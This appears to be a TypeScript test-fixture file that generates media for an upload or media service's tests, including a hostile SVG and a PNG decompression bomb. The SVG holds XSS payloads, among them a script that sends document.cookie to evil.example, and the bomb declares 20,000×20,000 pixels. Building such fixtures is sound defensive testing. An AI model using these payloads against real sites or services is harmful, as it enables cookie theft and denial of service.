// Media files made in the test with sharp (no binary fixtures): images of every raster type, an animated GIF, hostile
// SVG, a PNG decompression bomb (a few KB declaring 20,000 × 20,000 pixels), an over-long image and an MP4 header.
import zlib from 'node:zlib';
import sharp from 'sharp';

const solid = (width: number, height: number, r: number) => sharp({ create: { width, height, channels: 3, background: { r, g: 80, b: 160 } } });

export const png = (width = 800, height = 600, r = 10) => solid(width, height, r).png().toBuffer();
export const jpeg = (width = 640, height = 480) => solid(width, height, 200).jpeg().toBuffer();
export const webp = (width = 300, height = 900) => solid(width, height, 50).webp().toBuffer();

/** Three 64 × 48 frames of different colours. */
export const animatedGif = async () => {
  const frames = await Promise.all([255, 0, 128].map((r) => solid(64, 48, r).png().toBuffer()));
  return sharp(frames, { join: { animated: true } }).gif({ delay: [100, 100, 100] }).toBuffer();
};

export const HOSTILE_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="alert(document.cookie)">
  <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
  <rect width="200" height="100" fill="#3366ff" onclick="alert(1)"/>
  <image xlink:href="https://evil.example/track.png" width="10" height="10"/>
  <foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"></iframe></div></foreignObject>
  <circle cx="50" cy="50" r="20" style="fill: url(https://evil.example/x.svg#p)"/>
  <a href="javascript:alert(2)"><text x="10" y="90">hi</text></a>
</svg>`;

/** PNG chunks by hand: the bomb is a valid PNG whose pixels only inflate once decoded. */
const chunk = (type: string, data: Buffer) => {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body) >>> 0);
  return Buffer.concat([len, body, crc]);
};

/** 1-bit grey, 20,000 × 20,000 (400 MP): about 50 MB of zero rows deflated to some tens of KB. */
export const pngBomb = (side = 20_000) => {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const row = Math.ceil(side / 8) + 1;
  const raw = Buffer.alloc(row * side);
  const idat = zlib.deflateSync(raw, { level: 9 });
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', idat), chunk('IEND', Buffer.alloc(0))]);
};

/** 20,000 × 64: few pixels, but a side past MEDIA_MAX_DIMENSION's default. */
export const overlong = () => solid(20_000, 64, 90).png().toBuffer();

/** An MP4's `ftyp` box and filler: what the type sniffer and range requests need. */
export const mp4 = (size = 64 * 1024) => {
  const head = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypisom'), Buffer.from([0, 0, 2, 0]), Buffer.from('isommp41')]);
  const filler = Buffer.alloc(size - head.length);
  for (let i = 0; i < filler.length; i++) filler[i] = i % 251;
  return Buffer.concat([head, filler]);
};

/** A token URI holding its document: `data:application/json;base64,…`. */
export const dataJson = (doc: unknown) => `data:application/json;base64,${Buffer.from(JSON.stringify(doc)).toString('base64')}`;
